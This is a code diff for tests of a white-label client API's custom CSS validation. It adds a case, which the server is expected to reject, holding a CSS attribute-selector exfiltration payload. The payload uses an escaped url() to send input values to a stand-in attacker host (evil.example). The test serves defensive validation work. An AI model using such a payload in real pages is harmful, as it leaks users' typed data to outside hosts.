@@ -156,6 +156,12 @@ describe('/api/white-label/clients', () => {
         'customCSS',
         'Custom CSS cannot @import from other sites; only paths starting with / are allowed',
       ],
+      [
+        { name: 'A', customCSS: 'input[value^="a"] { background: \\75 rl(https://evil.example/a) }' },
+        'customCSS',
+        'Custom CSS can load images and fonts only from your own uploads (/uploads/...): url(), image-set() and @font-face sources ' +
+          'elsewhere are not allowed',
+      ],
       [{ name: 'A', customCSS: `a{content:"${'x'.repeat(21 * 1024)}"}` }, 'customCSS', 'Custom CSS must be at most 20 KB'],
       [
         { name: 'A', removeQRCodeSharksBranding: 'maybe' },
@@ -176,7 +182,7 @@ describe('/api/white-label/clients', () => {
       name: 'Fine',
       logoUrl: 'https://cdn.example/logo.png',
       customFavicon: '/favicon-fine.ico',
-      customCSS: '@import "/fonts.css"; .a > .b { color: #fff }',
+      customCSS: '@import "/fonts.css"; .a > .b { color: #fff; background: url(/uploads/0b1c2d3e-4f50-4a6b-8c7d-9e0f1a2b3c4d.png) }',
     });
     expect(fine.status).toBe(201);
   });
